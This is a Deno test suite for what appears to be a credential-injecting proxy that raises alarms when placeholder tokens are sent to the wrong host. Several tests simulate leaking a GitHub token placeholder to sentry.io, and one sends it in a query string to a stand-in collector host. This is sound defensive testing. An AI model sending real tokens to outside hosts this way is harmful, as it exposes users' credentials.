/**
 * The contract: a placeholder that a client takes to a host that is not its own raises an alarm; at
 * home, and in a body, where transcripts quote it, it does not.
 */

import assert from "node:assert/strict";
import { auditLines, waitForAudit } from "../support/audit_lines.ts";
import { runEnvironment } from "../support/client_variables.ts";
import { Lab } from "../support/lab.ts";
import { RawClient } from "../support/proxy_client.ts";
import { json } from "../support/upstream_scripts.ts";

const secrets = { GITHUB_TOKEN: "ghp_real_0123456789", SENTRY_AUTH_TOKEN: "sntry-real-0123456789" };

const places = [
  { name: "a field", target: "/", field: (value: string) => `X-Note: ${value}\r\n` },
  { name: "the query", target: (value: string) => `/?q=${value}`, field: () => "" },
  {
    name: "Basic",
    target: "/",
    field: (value: string) => `X-Note: Basic ${btoa(`u:${value}`)}\r\n`,
  },
];

for (const { name, target, field } of places) {
  Deno.test(`GitHub's placeholder in ${name} of a request to Sentry raises an alarm`, async () => {
    await using lab = await Lab.create();
    const upstream = await lab.upstream(["sentry.io:443", "api.github.com:443"], json({}));
    const proxy = await lab.proxy({ secrets });
    const ca = await Deno.readTextFile(proxy.caFile);
    const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
    const path = typeof target === "string" ? target : target(value);
    using home = await RawClient.tunnel(proxy.url, { target: "api.github.com:443", ca });
    await home.get(path, `Host: api.github.com\r\n${field(value)}`);
    using away = await RawClient.tunnel(proxy.url, { target: "sentry.io:443", ca });
    const response = await away.get(path, `Host: sentry.io\r\n${field(value)}`);
    assert.equal(response.status, 200);
    assert.equal(upstream.requests.length, 2);
    const [alarm, ...others] = await waitForAudit(proxy, { kind: "alarm", count: 1 });
    assert.deepEqual(alarm?.canary, ["GITHUB_TOKEN"]);
    assert.equal(alarm?.authority, "sentry.io:443");
    assert.deepEqual(others, []);
    assert.ok(!proxy.stderr.includes(value));
  });
}

Deno.test("a placeholder in clear text raises an alarm too", async () => {
  await using lab = await Lab.create();
  lab.plainUpstream(["collector.example.com:80"], json({}));
  const proxy = await lab.proxy({ secrets });
  const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
  using client = await RawClient.connect(proxy.url);
  await client.get(`http://collector.example.com/?t=${value}`, "Host: collector.example.com\r\n");
  const [alarm] = await waitForAudit(proxy, { kind: "alarm", count: 1 });
  assert.deepEqual(alarm?.canary, ["GITHUB_TOKEN"]);
});

Deno.test("a placeholder in a body is no alarm", async () => {
  await using lab = await Lab.create();
  await lab.upstream(["sentry.io:443"], json({}));
  const proxy = await lab.proxy({ secrets });
  const ca = await Deno.readTextFile(proxy.caFile);
  const { GITHUB_TOKEN: value } = await runEnvironment(proxy, ["GITHUB_TOKEN"]);
  using client = await RawClient.tunnel(proxy.url, { target: "sentry.io:443", ca });
  const head = `POST / HTTP/1.1\r\nHost: sentry.io\r\nContent-Length: ${value.length}\r\n\r\n`;
  await client.send(head + value);
  assert.equal((await client.receive({ method: "POST" })).status, 200);
  await proxy.stop();
  const lines = auditLines(proxy);
  assert.deepEqual(lines.filter(({ kind }) => kind === "alarm"), []);
  const exchange = lines.find(({ kind }) => kind === "exchange");
  assert.deepEqual(exchange?.canary_in_body, ["GITHUB_TOKEN"]);
});
